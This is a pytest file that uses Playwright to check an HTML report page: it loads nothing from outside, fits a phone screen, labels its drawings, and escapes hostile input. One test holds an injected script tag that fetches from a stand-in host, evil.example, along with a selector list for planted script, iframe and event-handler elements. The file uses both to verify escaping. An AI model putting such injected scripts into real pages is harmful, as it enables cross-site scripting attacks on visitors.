"""The page in a real browser: it asks for nothing, complains of nothing, and fits a phone."""

from pathlib import Path

import pytest
from playwright.sync_api import Browser

from mmga.report.page import page as page_of
from mmga.report.run import Run
from tests.report.conftest import PARAMS, finish, hostile
from tests.watching import Watched


@pytest.fixture(scope="module")
def files(finished, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The page of a run in which nothing is missing, and that of a hostile one."""
    folder = tmp_path_factory.mktemp("pages")
    runs = {"whole": finished, "hostile": finish(folder / "hostile-project", hostile)}
    for name, project in runs.items():
        text = page_of(Run.read(project), PARAMS)
        (folder / f"{name}.html").write_text(text, encoding="utf-8")
    return {name: folder / f"{name}.html" for name in runs}


@pytest.fixture
def opened(browser: Browser, files: dict[str, Path], request: pytest.FixtureRequest):
    name, width = request.param
    page = browser.new_page(viewport={"width": width, "height": 800})
    yield Watched(page, files[name])
    page.close()


EVERY = [(name, width) for name in ("whole", "hostile") for width in (390, 1280)]


@pytest.mark.parametrize("opened", EVERY, indirect=True)
def test_it_asks_for_nothing_but_itself_and_the_browser_has_nothing_to_say(opened: Watched):
    assert opened.outside == []
    assert opened.said == []


@pytest.mark.parametrize("opened", EVERY, indirect=True)
def test_it_never_scrolls_sideways(opened: Watched):
    assert not opened.scrolls_sideways
    assert opened.beyond == []


@pytest.mark.parametrize("opened", [("whole", 390)], indirect=True)
def test_every_picture_is_seen_and_every_drawing_has_a_name(opened: Watched):
    pictures = opened.page.evaluate("[...document.images].map(image => image.naturalWidth)")
    assert pictures
    assert min(pictures) > 0
    named = "drawing => drawing.getAttribute('aria-label')"
    drawings = opened.page.evaluate(f"[...document.querySelectorAll('svg')].map({named})")
    assert len(drawings) >= 10
    assert all(drawings)


@pytest.mark.parametrize("opened", [("hostile", 390)], indirect=True)
def test_what_is_hostile_is_read_as_it_was_written(opened: Watched):
    text = opened.page.inner_text("body")
    assert "<script>fetch('https://evil.example/x')</script>" in text
    assert "<s>u0" in text
    planted = "script, iframe, s, [onerror], [onload], main style:not(svg style)"
    assert opened.page.query_selector_all(planted) == []


def test_a_page_that_does_ask_is_noticed(browser: Browser, tmp_path: Path):
    file = tmp_path / "asks.html"
    file.write_text("<img src='http://127.0.0.1:9/x.png'><p style='width:3000px'>wide</p>")
    page = browser.new_page(viewport={"width": 390, "height": 800})
    watched = Watched(page, file)
    assert "http://127.0.0.1:9/x.png" in watched.asked
    assert watched.said
    assert watched.scrolls_sideways
    page.close()
